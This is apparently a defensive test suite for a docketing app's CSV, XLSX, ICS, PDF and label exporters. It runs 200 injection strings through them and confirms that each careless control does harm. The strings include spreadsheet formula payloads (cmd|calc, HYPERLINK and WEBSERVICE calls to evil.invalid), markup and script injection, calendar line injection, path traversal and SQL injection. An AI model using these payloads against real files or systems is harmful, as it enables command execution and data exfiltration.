"""Campaign row 16: two hundred hostile strings through CSV, XLSX, ICS, PDF and labels.

Nothing becomes a formula, a new line of a calendar or markup; every text is read back; no file and no address is opened.
Each has its control: the same strings written the careless way must do harm.
"""

import csv
import io
import sys
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import UTC, date, datetime
from pathlib import Path
from random import Random
from typing import Any
from zipfile import ZipFile

import openpyxl
import pytest
from pypdf import PdfReader

from ipdocket.exchange.csv_in import read_csv
from ipdocket.exchange.csv_out import write_csv
from ipdocket.exchange.guard import unguard_cell
from ipdocket.exchange.ics_out import CalendarItem, clean_text, write_calendar
from ipdocket.exchange.xlsx_in import read_xlsx
from ipdocket.exchange.xlsx_out import write_xlsx
from ipdocket.paths import resources_folder
from ipdocket.reports.paper import Column, Group, Report, Row
from ipdocket.reports.write import write_report

COUNT, SEED = 200, 16
STAMP = datetime(2026, 11, 23, 8, tzinfo=UTC)
FORMULA = ("=", "+", "-", "@", "\t=", "\r=", "＝", "＋", "＠", "'=", "''+")
PAYLOAD = (
    "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.invalid/?"&A1,"x")', "IMPORTXML(A1)", "SUM(A1:A9)", 'WEBSERVICE("http://evil.invalid")',
)  # fmt: skip
MARKUP = (
    '<img src="{file}">', '<img src="http://evil.invalid/x.png">', "<a href='file:///{file}'>x</a>", "<b>bold", "&lt;b&gt;", "</para><para>",
    "<script>alert(1)</script>", "<font color='red'>", "<!--", "]]>", "<br/>", "&amp;",
)  # fmt: skip
LINES = (
    "x\r\nEND:VEVENT\r\nBEGIN:VEVENT", "x\nATTENDEE:mailto:evil@evil.invalid", "x\rSUMMARY:other", "a\x0bb", "a\u2028END:VCALENDAR",
    "a\x85b", "semi;colon,comma\\back", 'quo"te', "x\r\n Y", "DTSTART:20200101",
)  # fmt: skip
PLAIN = ("Müller & Söhne", "株式会社", "مثال", "O'Neil", "100%", "{0}", "%s", "a\u202eb", "C:\\temp\\new", "../../etc/passwd", "NULL", "DROP TABLE x;--")


def hostile(file: Path) -> list[str]:
    """The strings: kinds alone and put together; `file` is named by those that would open one."""
    random = Random(SEED)
    made = [start + what for start in FORMULA for what in PAYLOAD]
    made += [one.format(file=file) for one in MARKUP] + list(LINES) + list(PLAIN)
    while len(made) < COUNT:
        parts = random.sample([*LINES, *(one.format(file=file) for one in MARKUP), *PLAIN], 2)
        made.append(random.choice(FORMULA) + "".join(parts))
    return made[:COUNT]


@contextmanager
def opened_files() -> Iterator[list[str]]:
    """What is opened or connected to meanwhile, by Python's own audit events."""
    seen: list[str] = []
    _WATCHED.append(seen)
    try:
        yield seen
    finally:
        _WATCHED.remove(seen)


_WATCHED: list[list[str]] = []


def _note(event: str, arguments: tuple[Any, ...]) -> None:
    if _WATCHED and event in ("open", "socket.connect", "socket.getaddrinfo", "urllib.Request"):
        for seen in _WATCHED:
            seen.append(f"{event} {arguments[0]!r}" if event == "open" else event)


sys.addaudithook(_note)  # stays for the process; it notes only while someone watches


@pytest.fixture
def bait(tmp_path: Path) -> Path:
    """A picture that nothing may open."""
    path = tmp_path / "bait.png"
    path.write_bytes(
        bytes.fromhex(
            "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
            "1f15c4890000000d49444154789c6360606060000000050001a5f645400000000049454e44ae426082"
        )
    )
    return path


def untouched(seen: list[str], bait: Path) -> bool:
    return not any(bait.name in line or line.startswith(("socket", "urllib")) for line in seen)


def test_csv(bait: Path) -> None:
    strings = hostile(bait)
    with opened_files() as seen:
        content = write_csv(("Ref", "Text"), [(f"R{n}", text) for n, text in enumerate(strings)])
        cells = [row[1] for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))][1:]
    assert untouched(seen, bait)
    assert [cell for cell in cells if cell[:1] in "=+-@\t\r＝＋－＠" and cell] == []
    assert [unguard_cell(cell) for cell in cells] == strings
    read = read_csv(content).rows
    assert len(read) == COUNT
    careless = io.StringIO(newline="")
    csv.writer(careless).writerows([[text] for text in strings])
    assert [row for row in csv.reader(io.StringIO(careless.getvalue(), newline="")) if row and row[0][:1] in "=+-@"], "the control"


def test_xlsx(bait: Path, tmp_path: Path) -> None:
    import xlsxwriter

    strings, path = hostile(bait), tmp_path / "out.xlsx"
    with opened_files() as seen:
        write_xlsx(path, ("Ref", "Text"), [(f"R{n}", text) for n, text in enumerate(strings)], title="=1+1[x]")
    assert untouched(seen, bait)
    cells = [row[1] for row in openpyxl.load_workbook(path).active.iter_rows(min_row=2)]
    assert [cell.value for cell in cells if cell.data_type == "f" or cell.hyperlink] == []
    told = [row[1] for row in read_xlsx(path).rows]
    assert [line_ends(one) for one in told] == [line_ends(one) for one in strings]
    with xlsxwriter.Workbook(str(tmp_path / "careless.xlsx")) as book:
        sheet = book.add_worksheet()
        for number, text in enumerate(strings):
            sheet.write(number, 0, text)
    with ZipFile(tmp_path / "careless.xlsx") as packed:
        assert b"<f>" in packed.read("xl/worksheets/sheet1.xml"), "the control"


def test_ics(bait: Path) -> None:
    import icalendar

    strings = hostile(bait)
    items = [
        CalendarItem(f"{n}@x", 1, STAMP, date(2027, 1, 1), text, description=text, categories=(text,), alarms=(7,))
        for n, text in enumerate(strings)
    ]
    with opened_files() as seen:
        content = write_calendar(items, strings[0])
    assert untouched(seen, bait)
    assert max(len(line) for line in content.split(b"\r\n")) <= 75
    unfolded = content.replace(b"\r\n ", b"").split(b"\r\n")
    assert sum(line == b"BEGIN:VEVENT" for line in unfolded) == COUNT
    assert not [line for line in unfolded if line.startswith(b"ATTENDEE")]
    read = {str(one["UID"]): one for one in icalendar.Calendar.from_ical(content).walk("VEVENT")}
    for number, text in enumerate(strings):
        assert str(read[f"{number}@x"]["SUMMARY"]) == clean_text(text)
        assert str(read[f"{number}@x"]["DESCRIPTION"]) == clean_text(text)
    careless = "".join(f"BEGIN:VEVENT\r\nSUMMARY:{text}\r\nEND:VEVENT\r\n" for text in strings)
    assert careless.count("BEGIN:VEVENT") > COUNT, "the control"


def test_pdf(bait: Path, tmp_path: Path) -> None:
    strings, path = hostile(bait), tmp_path / "out.pdf"
    fonts = resources_folder() / "fonts"
    rows = [Row((f"R{n}R", text)) for n, text in enumerate(strings)]
    report = Report(strings[0], date(2026, 11, 23), strings[70], "rules", (Column("Ref", 10), Column("Text", 60)), [Group(strings[80], rows)])
    with opened_files() as seen:
        write_report(report, path, fonts)
    assert untouched(seen, bait)
    read = PdfReader(path)
    text = "".join(page.extract_text() for page in read.pages)
    assert [n for n in range(COUNT) if f"R{n}R" not in text] == []
    for one in ("</para><para>", "<script>alert(1)</script>", "&amp;", "HYPERLINK(", "DROP TABLE x;--"):
        assert letters(one) in letters(text), one
    assert not [page for page in read.pages if "/Annots" in page or "/AA" in page]
    assert not [name for page in read.pages for name in (page.get("/Resources", {}).get("/XObject") or {})]
    with opened_files() as seen:
        careless_paragraph(f'<img src="{bait}" width="1" height="1"/>', tmp_path / "careless.pdf")
    assert not untouched(seen, bait), "the control: markup that is not escaped opens the file that it names"


def test_labels(bait: Path, qapp: Any) -> None:
    from PySide6 import QtGui
    from PySide6.QtCore import Qt

    from ipdocket.ui.widgets.text import Label, set_plain_tip

    strings = hostile(bait)
    with opened_files() as seen:
        for text in strings:
            label = Label(text)
            set_plain_tip(label, text)
            assert label.textFormat() is Qt.TextFormat.PlainText
            assert label.text() == text
            assert "<img" not in label.toolTip().lower().removeprefix("<qt>")
            label.grab()
    assert untouched(seen, bait)
    assert [text for text in strings if QtGui.Qt.mightBeRichText(text)], "the control: a bare QLabel would read these as markup"


def careless_paragraph(markup: str, path: Path) -> None:
    from reportlab.lib.styles import getSampleStyleSheet
    from reportlab.platypus import Paragraph, SimpleDocTemplate

    SimpleDocTemplate(str(path)).build([Paragraph(markup, getSampleStyleSheet()["Normal"])])


def line_ends(text: str) -> str:
    """XML knows one line end; which of them it was is all that a workbook loses."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


def letters(text: str) -> str:
    """Without what a page breaks by."""
    return "".join(text.split())
